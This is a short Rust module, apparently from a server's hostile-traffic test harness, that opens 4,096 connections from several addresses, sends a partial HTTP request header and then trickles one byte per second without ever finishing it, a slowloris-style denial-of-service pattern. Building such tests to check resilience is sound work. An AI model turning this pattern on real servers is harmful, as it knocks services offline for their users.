//! Thousands of connections, from several addresses, that send their headers a byte at a time and never come to the end
//! of them.

use std::time::Duration;

use crate::Error;
use crate::hostile::attack::Target;
use crate::hostile::connections::{Crowd, open};

/// Their addresses, and how many connections come from all of them: as many as one process takes.
const FROM: std::ops::Range<u8> = 20..24;
const CONNECTIONS: usize = 4_096;
/// What is sent at once, before the bytes that come one by one.
const BEGINNING: &[u8] = b"GET /v1/me HTTP/1.1\r\nX-Slow: ";
/// The rest between two bytes.
const EVERY: Duration = Duration::from_secs(1);

/// Opens them.
pub async fn run(target: Target) -> Result<(), Error> {
    let crowd = Crowd { addresses: FROM, count: CONNECTIONS, receives: None };
    open(&target, crowd, |_, mut slow| async move {
        slow.sends(BEGINNING).await?;
        slow.trickles(b"a", EVERY).await
    })
    .await
}
